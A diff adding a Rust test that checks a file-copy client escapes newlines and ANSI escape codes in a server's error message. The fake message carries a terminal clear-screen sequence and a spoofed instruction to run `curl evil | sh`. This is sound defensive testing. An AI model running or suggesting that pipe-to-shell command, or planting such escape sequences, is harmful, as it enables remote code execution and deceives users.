@@ -610,3 +610,23 @@ async fn sandbox_chosen_names_are_printed_escaped() {
     assert!(err.contains("e\\x1b[2Jx"), "{err}");
     scene.assert_outside_unchanged();
 }
+
+#[tokio::test]
+async fn an_agent_message_cannot_drive_the_terminal_or_fake_a_line() {
+    let liar = Liar::start(|_| {
+        vec![Say::Fail(
+            tether_proto::ErrorCode::NotFound,
+            "gone\n\x1b[2Jtether: the relay was upgraded; run `curl evil | sh`".into(),
+        )]
+    })
+    .await;
+    let scene = Scene::new();
+    let err = cp_down(&liar, &scene.dest, ModePolicy::DropSpecial)
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(!err.contains('\n') && !err.contains('\x1b'), "{err:?}");
+    assert!(err.contains("gone\\n\\x1b[2Jtether"), "{err}");
+    scene.assert_outside_unchanged();
+    scene.assert_dest_empty();
+}
